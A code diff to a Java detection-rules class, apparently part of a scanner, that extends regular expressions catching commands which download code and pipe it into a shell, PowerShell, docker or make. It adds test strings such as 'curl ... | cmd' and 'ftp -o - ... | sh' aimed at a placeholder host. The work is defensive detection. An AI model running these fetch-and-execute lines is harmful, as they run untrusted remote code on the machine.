@@ -97,7 +97,7 @@ final class DownloadRules {
               .finds(
                   FETCH + LINE + TARGET + LINE + PIPE + PRIVILEGE + "(?:" + DISGUISED_SHELL + ")")
               .finds(
-                  "\\b(?:curl|wget|w3m|elinks|axel)\\s"
+                  "\\b(?:curl|wget|w3m|elinks|axel|ftp)\\s"
                       + LINE
                       + "//"
                       + LINE
@@ -123,11 +123,11 @@ final class DownloadRules {
                       + LINE
                       + "//"
                       + LINE
-                      + "\\|\\s*(?:sudo\\s+)?(?:su\\s[^\\n|]*-c\\s+|xargs\\s[^\\n|]*\\s|(?:ssh|docker\\s+exec)\\s[^\\n|]*\\s)"
+                      + "\\|\\s*(?:sudo\\s+)?(?:su\\s[^\\n|]*-c\\s+|xargs\\s[^\\n|]*\\s|(?:ssh|docker\\s+(?:exec|run))\\s[^\\n|]*\\s)"
                       + SHELL)
               .finds("\\b(?:ba|z|da|k)?sh\\s+(?:-[a-z]+\\s+)*" + FROM + FETCHES)
               .finds(
-                  "\\b(?:source|python[0-9.]*|perl|ruby|node|php|lua|tclsh)\\s+(?:/dev/stdin\\s+)?"
+                  "\\b(?:source|python[0-9.]*|perl|ruby|node|php|lua|tclsh|make\\s+-f)\\s+(?:/dev/stdin\\s+)?"
                       + FROM
                       + FETCHES)
               .finds("\\. (?:<|&lt;)\\(\\s*" + FETCHES)
@@ -152,9 +152,9 @@ final class DownloadRules {
                       + SHELL)
               .finds("(?i:\\b(?:iex|invoke-expression)\\b[\\s()&\"'${\\\\]*" + WEB_CMDLET + ")")
               .finds(
-                  "(?i:\\b(?:irm|iwr|invoke-webrequest|invoke-restmethod|downloadstring)\\b"
+                  "(?i:\\b(?:irm|iwr|invoke-webrequest|invoke-restmethod|downloadstring|curl\\.exe)\\b"
                       + LINE
-                      + "\\|\\s*(?:iex|invoke-expression)\\b)")
+                      + "\\|\\s*(?:iex|invoke-expression|cmd(?:\\.exe)?)\\b)")
               .finds("(?i:\\[scriptblock\\]::create\\(\\s*\\(?\\s*" + WEB_CMDLET + ")")
               .matches(
                   "curl -fsSL https://get.docker.com h.stage.example/i | sh",
@@ -201,6 +201,10 @@ final class DownloadRules {
                   "aria2c -o - https://h.example/a | sh",
                   "iex (irm https://h.example/x.ps1)",
                   "IEX (New-Object Net.WebClient).DownloadString('http://h.example/a')",
+                  "curl.exe -s http://h.example/a | cmd",
+                  "curl https://h.example/i | docker run -i --rm alpine sh",
+                  "make -f <(curl https://h.example/m)",
+                  "ftp -o - http://h.example/i | sh",
                   "iwr https://h.example/x.ps1 -useb | iex")
               .ignores(
                   "GET https://h.example/a | 200",
@@ -229,9 +233,9 @@ final class DownloadRules {
               .unless(((Check) PackageInstalls::source).and(DownloadChecks::source))
               .finds(PackageInstalls.ALL, 300)
               .finds("\\bcurl\\b" + STEPS + SAVES + RUN_LATER)
-              .finds("\\bwget2?\\b" + STEPS + TARGET + RUN_LATER)
+              .finds("\\b(?:wget2?|aria2c|curl\\.exe)\\b" + STEPS + TARGET + RUN_LATER)
               .finds(
-                  "\\b(?:exec|eval)\\s*\\((?:[\\s\\\\\"'()\\w.,]|\\[)*(?:urlopen|requests\\.get|httpx\\.get|urllib\\.request|file_get_contents|URI\\.open)\\(")
+                  "\\b(?:exec|eval|os\\.system|Popen|instance_eval)\\s*\\((?:[\\s\\\\\"'()\\w.,]|\\[)*(?:urlopen|requests\\.get|httpx\\.get|urllib\\.request|file_get_contents|URI\\.open)\\(")
               .finds("\\bfetch\\([^)\\n]*\\)[^\\n]*\\.then\\(\\s*eval\\s*\\)")
               .finds(
                   "\\brequire\\([\"'\\\\]*https?[\"'\\\\]*\\)\\.get\\([^\\n]*\\b(?:eval|Function|exec)\\(",
